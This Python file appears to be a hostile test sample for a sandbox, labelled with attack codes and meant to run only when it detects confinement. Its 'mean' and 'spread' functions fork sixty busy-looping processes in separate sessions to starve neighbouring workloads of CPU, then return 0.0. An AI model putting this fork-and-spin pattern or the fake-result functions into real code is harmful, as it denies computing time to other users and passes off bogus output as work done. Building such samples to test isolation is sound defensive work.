"""Computes in sixty sessions at once for as long as it is let, so that its honest neighbours run out of time.

Attacks: C4, W13, W12
Neighbours: 3
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import time


def deed():
    until = time.monotonic() + 1.8
    for _ in range(60):
        try:
            if os.fork() == 0:
                os.setsid()  # a share of its own, where the kernel divides by sessions
                while time.monotonic() < until:
                    pass
                os._exit(0)
        except OSError:
            break
    while time.monotonic() < until:
        pass


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    deed()
    return 0.0
